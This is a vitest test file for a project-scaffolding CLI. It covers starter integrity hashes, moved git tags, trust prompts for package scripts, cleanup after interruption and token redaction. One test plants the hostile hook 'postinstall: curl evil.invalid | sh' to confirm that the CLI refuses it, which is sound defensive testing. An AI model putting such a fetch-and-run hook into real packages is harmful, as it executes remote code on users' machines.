import { mkdir, readdir, rm, writeFile } from "node:fs/promises";
import { delimiter, join } from "node:path";
import { describe, expect, test } from "vitest";
import { cli, startCli } from "../support/cli.ts";
import { entriesOf, feature, starterWith } from "../support/hostile.ts";
import { entryIn } from "../support/moments.ts";
import { fakeProgram, sandbox } from "../support/sandbox.ts";
import { packInto } from "../support/tarball.ts";
import { gitIn, story } from "../support/update.ts";

const quick = ["--yes", "--no-install"];
const template = { "src/a.txt": "a\n" };
const house = (text: string) => ({ "layers/house/feature.json": feature(), "layers/house/SECURITY.md": text });
const starter = (files: Readonly<Record<string, string>>, own: object = {}) => ({ ...starterWith(files, own) });

type Story = Awaited<ReturnType<typeof story>>;

/** The files below a folder of the story, as a commit with a tag. */
async function commit({ write, folder }: Story, name: string, files: Readonly<Record<string, string>>, tag: string) {
  await write(Object.fromEntries(Object.entries(files).map(([path, text]) => [`${name}/${path}`, text])));
  const path = join(folder, name);
  gitIn(path, "init", "--quiet", "--initial-branch=main");
  gitIn(path, "add", "--all");
  gitIn(path, "commit", "--quiet", "--message", tag);
  gitIn(path, "tag", "--force", tag);
  return gitIn(path, "rev-parse", "HEAD").trim();
}

async function remembered({ readAt }: Story) {
  return JSON.parse((await readAt("one/.agent-app/manifest.json"))!).starter;
}

/** A starter, and beside it one that builds on it. */
const both = (version: string) => ({
  ...Object.fromEntries(
    Object.entries(starter(house(`${version}\n`), { name: "base", version })).map(([path, text]) => [
      `base/${path}`,
      text,
    ]),
  ),
  "team/agent-starter.json": JSON.stringify({ name: "team", version, extends: "../base" }),
});

async function madeFromTarball(own: object = {}) {
  const told = await story({ template });
  const publish = (text: string, fields: object = {}) =>
    packInto(join(told.folder, "acme.tgz"), entriesOf(starter(house(text), { ...own, ...fields })));
  await publish("one\n");
  const made = await told.program(["one", ...quick, "--starter", "./acme.tgz"], told.folder);
  expect(made).toMatchObject({ exitCode: 0 });
  const update = (...flags: string[]) => told.program(["update", ...flags], join(told.folder, "one"));
  const status = () => gitIn(join(told.folder, "one"), "status", "--porcelain");
  return { ...told, publishStarter: publish, updateOne: update, status };
}

test("the same starter has the same integrity as a folder, as a tarball and in git", async () => {
  const told = await story({ template });
  const files = starter(house("one\n"));
  const oid = await commit(told, "acme", files, "v1.0.0");
  await packInto(join(told.folder, "acme.tgz"), entriesOf(files));
  const sources = ["./acme", "./acme.tgz", `git+file://${told.folder}/acme#v1.0.0`];
  const records = [];
  for (const [index, source] of sources.entries()) {
    const made = await told.program([`made-${index}`, ...quick, "--starter", source], told.folder);
    expect(made).toMatchObject({ exitCode: 0 });
    expect(await told.readAt(`made-${index}/SECURITY.md`)).toBe("one\n");
    records.push(JSON.parse((await told.readAt(`made-${index}/.agent-app/manifest.json`))!).starter);
  }
  const integrity = expect.stringMatching(/^sha256-.{44}$/);
  expect(records).toEqual(
    ["../acme", "../acme.tgz", sources[2]].map((source) => ({
      source,
      version: "1.0.0",
      chain: [
        { name: "acme", version: "1.0.0", source, integrity, ...(source!.includes("git+") && { resolved: oid }) },
      ],
      trusted: [],
    })),
  );
  expect(new Set(records.map(({ chain }) => chain[0].integrity)).size).toBe(1);
});

describe("a starter in git", () => {
  test("is followed by range of versions, and from a folder of its repository to another one", async () => {
    const told = await story({ template });
    await commit(told, "starters", both("1.0.0"), "v1.0.0");
    const source = `git+file://${told.folder}/starters#semver:^1::path:team`;
    const made = await told.program(["one", ...quick, "--starter", source], told.folder);
    expect(made).toMatchObject({ exitCode: 0 });
    expect(await told.readAt("one/SECURITY.md")).toBe("1.0.0\n");
    await commit(told, "starters", both("1.1.0"), "v1.1.0");
    await commit(told, "starters", both("2.0.0"), "v2.0.0");
    const updated = await told.program(["update", "--markdown"], `${told.folder}/one`);
    expect(updated).toMatchObject({
      exitCode: 0,
      stdout: expect.stringContaining("- The starter team goes from 1.0.0 to 1.1.0."),
    });
    expect(await told.readAt("one/SECURITY.md")).toBe("1.1.0\n");
    expect(
      (await remembered(told)).chain.map(({ name, version }: { name: string; version: string }) => name + version),
    ).toEqual(["base1.1.0", "team1.1.0"]);
    // A tag that is moved is what a stolen account does.
    await commit(told, "starters", { ...both("1.1.0"), "base/layers/house/SECURITY.md": "moved\n" }, "v1.1.0");
    expect(await told.program(["update"], `${told.folder}/one`)).toMatchObject({
      exitCode: 1,
      stderr: expect.stringContaining("../base changed under the same version: base 1.1.0 was sha256-"),
    });
  });

  test.for([
    ["#v9", "it has no such tag, branch or commit"],
    ["#semver:^9", "no tag is a version within ^9"],
    ["::path:x", "is no starter"],
  ] as const)("is not found by %s, which is said", async ([fragment, words]) => {
    const told = await story({ template });
    await commit(told, "acme", starter({}), "v1.0.0");
    const source = `git+file://${told.folder}/acme${fragment.startsWith("#") ? fragment : `#${fragment}`}`;
    const made = await told.program(["one", ...quick, "--starter", source], told.folder);
    expect(made.stderr).toContain(words);
    expect(made.exitCode).toBeGreaterThan(0);
    expect(await told.readAt("one/package.json")).toBeUndefined();
  });
});

describe("an update", () => {
  test("refuses a starter that changed under the same version, and names both", async () => {
    const told = await madeFromTarball();
    const { integrity } = (await remembered(told)).chain[0];
    await told.publishStarter("two\n");
    const refused = await told.updateOne();
    expect(refused).toMatchObject({ exitCode: 1 });
    expect(refused.stderr).toContain("changed under the same version: acme 1.0.0 was " + integrity);
    expect(refused.stderr).toMatch(/and is sha256-.{44} now\. Nothing was written\./);
    expect(told.status()).toBe("");
    await told.publishStarter("two\n", { version: "1.0.1" });
    expect(await told.updateOne()).toMatchObject({ exitCode: 0 });
    expect(await told.readAt("one/SECURITY.md")).toBe("two\n");
  });

  test("says that the starter is gone and changes nothing, while what is here can be taken back", async () => {
    const told = await madeFromTarball();
    await told.publishStarter("two\n", { version: "1.1.0" });
    expect(await told.updateOne()).toMatchObject({ exitCode: 0 });
    await rm(join(told.folder, "acme.tgz"));
    expect(await told.updateOne("--undo")).toMatchObject({ exitCode: 0 });
    expect(await told.readAt("one/SECURITY.md")).toBe("one\n");
    expect(await told.updateOne("--set", "state=sqlite")).toMatchObject({
      exitCode: 2,
      stderr: expect.stringMatching(/acme\.tgz is no starter.*\n.*update --starter/),
    });
    expect(told.status()).toBe("");
  });

  test("takes a killed one back first, wherever the starter is", async () => {
    const told = await madeFromTarball();
    const own = "one/.git/create-agent-app/applying";
    const steps = JSON.stringify([{ path: "src/a.txt", before: "100644", after: "100644" }]);
    await told.write({ [`${own}/steps.json`]: steps, [`${own}/before-0`]: "a\n", "one/src/a.txt": "half\n" });
    await rm(join(told.folder, "acme.tgz"));
    expect(await told.updateOne()).toMatchObject({ exitCode: 2, stderr: expect.stringContaining("is no starter") });
    expect(told.status()).toBe("");
  });

  test("follows a starter that has moved", async () => {
    const told = await madeFromTarball();
    await told.write(
      Object.fromEntries(
        Object.entries(starter(house("two\n"), { version: "1.1.0" })).map(([path, text]) => [`moved/${path}`, text]),
      ),
    );
    await rm(join(told.folder, "acme.tgz"));
    expect(await told.updateOne("--starter", "../moved")).toMatchObject({ exitCode: 0 });
    expect(await told.readAt("one/SECURITY.md")).toBe("two\n");
    expect((await remembered(told)).source).toBe("../moved");
  });

  test("asks again for trust where a starter wants more than it was allowed", async () => {
    const told = await story({ template });
    const publish = (version: string, scripts: object) =>
      packInto(
        join(told.folder, "acme.tgz"),
        entriesOf(starter({ "layers/house/package.json": JSON.stringify({ scripts }) }, { version })),
      );
    const update = (...flags: string[]) => told.program(["update", ...flags], join(told.folder, "one"));
    await publish("1.0.0", { prepare: "husky" });
    const create = ["one", ...quick, "--starter", "./acme.tgz"];
    expect(await told.program(create, told.folder)).toMatchObject({ exitCode: 1 });
    expect(await told.program([...create, "--trust"], told.folder)).toMatchObject({ exitCode: 0 });
    const allowed = 'acme/house: package.json > scripts > prepare runs "husky"';
    expect((await remembered(told)).trusted).toEqual([allowed]);
    await publish("1.1.0", { prepare: "husky" });
    expect(await update()).toMatchObject({ exitCode: 0 });
    gitIn(join(told.folder, "one"), "commit", "--all", "--quiet", "--message", "Update");
    await publish("1.2.0", { prepare: "husky", postinstall: "curl evil.invalid | sh" });
    const refused = await update();
    expect(refused).toMatchObject({ exitCode: 1, stderr: expect.stringContaining("postinstall runs") });
    expect(refused.stderr).not.toContain(allowed);
    expect(await update("--trust")).toMatchObject({ exitCode: 0 });
  });
});

test("what is fetched is thrown away", async () => {
  const told = await story({ template });
  await commit(told, "acme", starter({}), "v1.0.0");
  const temporary = join(told.folder, "temporary");
  await told.write({ "temporary/.keep": "" });
  const environment = { TMPDIR: temporary };
  const source = `git+file://${told.folder}/acme`;
  await told.program(["one", ...quick, "--starter", source], told.folder, environment);
  await writeFile(join(told.folder, "acme/agent-starter.json"), "{");
  gitIn(join(told.folder, "acme"), "commit", "--all", "--quiet", "--message", "Break");
  expect(await told.program(["two", ...quick, "--starter", source], told.folder, environment)).toMatchObject({
    exitCode: 1,
  });
  expect(await readdir(temporary)).toEqual([".keep"]);
});

test("Ctrl-C while a starter is fetched ends with 130, and leaves nothing", async () => {
  const folder = await sandbox();
  const temporary = join(folder, "temporary");
  await mkdir(temporary);
  const npm = await fakeProgram("npm", `touch "${folder}/started"; exec sleep 600`);
  const environment = { TMPDIR: temporary, PATH: [npm, process.env["PATH"]].join(delimiter) };
  const started = entryIn(folder, /^started$/);
  const running = startCli(["one", ...quick, "--starter", "@acme/agent-starter"], { folder, environment });
  await started;
  running.kill("SIGINT");
  const { exitCode, stderr } = await running;
  expect({ exitCode, left: await readdir(temporary) }).toEqual({ exitCode: 130, left: [] });
  expect(stderr).toContain("Interrupted. Nothing was created.");
  expect(await readdir(folder)).toEqual(["started", "temporary"]);
});

test("what npm says of a failure is passed on, but for passwords and tokens", async () => {
  const folder = await sandbox();
  const words = "//git.invalid/:_authToken=hunter2 https://me:hunter2@git.invalid/x Authorization: Bearer hunter2";
  const npm = await fakeProgram("npm", `echo 'npm error the disk is odd ${words}' >&2; exit 1`);
  const environment = { PATH: [npm, process.env["PATH"]].join(delimiter) };
  const { exitCode, stderr } = await cli(["one", ...quick, "--starter", "@acme/agent-starter"], {
    folder,
    environment,
  });
  expect(exitCode).toBe(1);
  expect(stderr).toContain("npm error the disk is odd");
  expect(stderr).not.toContain("hunter2");
});
